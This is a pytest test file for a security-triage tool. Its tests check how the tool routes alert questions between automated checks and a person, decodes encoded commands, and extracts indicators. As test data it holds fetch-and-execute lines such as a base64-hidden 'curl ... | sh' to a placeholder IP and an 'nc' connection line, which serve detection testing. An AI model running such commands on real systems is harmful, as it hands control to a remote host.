"""The minds behind the table: what a fast one says at once, and what it leaves to a slow one."""

import base64
from collections.abc import Sequence
from datetime import UTC, datetime

import pytest

from watchfloor.agent.case import Claim, Investigation
from watchfloor.base.findings import Finding
from watchfloor.base.judgements import Judgement, Label
from watchfloor.base.scenes import KeyFrame, Process, Scene, Scored, VerdictName
from watchfloor.operations.minds import Minds, Question, answer_of, indicators_in

AT = datetime(2026, 1, 1, tzinfo=UTC)


def scene(verdict: VerdictName, score: float, *lines: str) -> Scene:
    processes = tuple(Process(f"p{n}", n, "/bin/sh", line, AT, score) for n, line in enumerate(lines))
    frame = KeyFrame("a.log#1", AT, "sh", "process.launch", lines[0] if lines else "", 0.5)
    return Scene("s1", "a.log", "Web-05", Process("p0", 1, "/bin/sh", "", AT, score), AT, AT, 3, 3, verdict, score, (),
                 (Scored("T1059.004", 0.4),), processes, (frame,))  # fmt: skip


def listens_for(word: str):  # type: ignore[no-untyped-def]
    """A command expert that finds lines with one word malicious."""

    def ask(lines: Sequence[str]) -> list[Judgement]:
        return [Judgement("command", (Label("malicious", p), Label("benign", 1 - p)) if p > 0.5 else
                          (Label("benign", 1 - p), Label("malicious", p)))
                for p in (0.97 if word in line else 0.04 for line in lines)]  # fmt: skip

    return ask


def finding(level: str, *techniques: str) -> Finding:
    return Finding("r1", "t", level, "stable", "", "a.log", "web-05", AT, ("a.log#7",), techniques, ())


@pytest.mark.parametrize(("verdict", "score", "mind"), [
    ("malicious", 0.97, "fast"), ("benign", 0.01, "fast"), ("suspicious", 0.4, "person"), ("unsure", 0.02, "person"),
])  # fmt: skip
def test_only_a_sure_verdict_of_the_screen_stands(verdict: VerdictName, score: float, mind: str) -> None:
    settled = Minds().dispatcher().settle("verdict", Question(scene(verdict, score, "ls")))
    assert settled.mind == mind


def test_a_rules_level_and_tags_come_before_the_screens() -> None:
    floor = Minds().dispatcher()
    asked = Question(scene("suspicious", 0.4, "ls"), [finding("medium"), finding("critical", "T1003.001")])
    by = {each.subtask: each for each in floor.work(asked)}
    assert by["severity"].answer and by["severity"].answer.value == "critical"
    assert by["technique tagging"].answer and by["technique tagging"].answer.value == ["T1003.001"]
    assert by["technique tagging"].answer.event_ids == ("a.log#7",)
    alone = {each.subtask: each for each in floor.work(Question(scene("suspicious", 0.4, "ls")))}
    assert alone["severity"].mind == alone["technique tagging"].mind == "person"


def test_the_worst_command_speaks_and_encoded_ones_are_decoded() -> None:
    minds = Minds(experts={"command": listens_for("beacon")})
    plain = minds.commands(Question(scene("benign", 0.1, "ls", "curl beacon")))
    assert plain and plain.value == "malicious"
    hidden = base64.b64encode(b"curl http://203.0.113.9/beacon | sh").decode()
    asked = Question(scene("benign", 0.1, f"echo {hidden} | base64 -d | sh"))
    quick, slow = minds.commands(asked), minds.decoded(asked, 2.0)
    assert quick and quick.value == "benign"
    assert slow and slow.value == "malicious" and slow.by == "decoder and command expert"
    assert minds.decoded(Question(scene("benign", 0.1, "ls -la")), 2.0) is None


def test_an_expert_that_is_not_there_says_nothing() -> None:
    assert Minds().commands(Question(scene("benign", 0.1, "ls"))) is None


def test_assets_are_what_the_customers_list_says() -> None:
    minds = Minds(assets={"web-05": {"criticality": "high"}})
    settled = minds.dispatcher().settle("asset criticality", Question(scene("benign", 0.1, "ls")))
    assert (settled.mind, settled.answer and settled.answer.value) == ("fast", "high")
    assert Minds().dispatcher().settle("asset criticality", Question(scene("benign", 0.1))).mind == "person"


@pytest.mark.parametrize(("text", "found"), [
    ("curl http://203.0.113.9/a.sh", ["http://203.0.113.9/a.sh"]), ("nc 203.0.113.9 443", ["203.0.113.9"]),
    ("ping 127.0.0.1; bind 0.0.0.0", []), ("version 1.2.3.4.5", []), ("999.1.1.1", []),
    (f"sum {'ab' * 32}", ["ab" * 32]), ("", []),
])  # fmt: skip
def test_indicators_are_what_stands_in_plain_sight(text: str, found: list[str]) -> None:
    assert indicators_in(text) == found


def test_an_investigation_answers_each_subtask_it_was_asked_for_with_its_records() -> None:
    told = [{"id": "T1041", "tactic": "TA0010"}]
    cause = Claim("`sshd` let in `mallory`", ("a.log#3",))
    made = Investigation("c", "procedural", "malicious", 0.9, cause, operations=["a.log#3"], techniques=told)
    for name, value in {"verdict": "malicious", "severity": "critical", "technique tagging": ["T1041"]}.items():
        said = answer_of(name, made)
        assert said and said.value == value
    rooted = answer_of("root cause", made)
    assert rooted and rooted.event_ids == ("a.log#3",)
    assert answer_of("root cause", Investigation("c", "procedural")) is None
    assert answer_of("response choice", made) is None
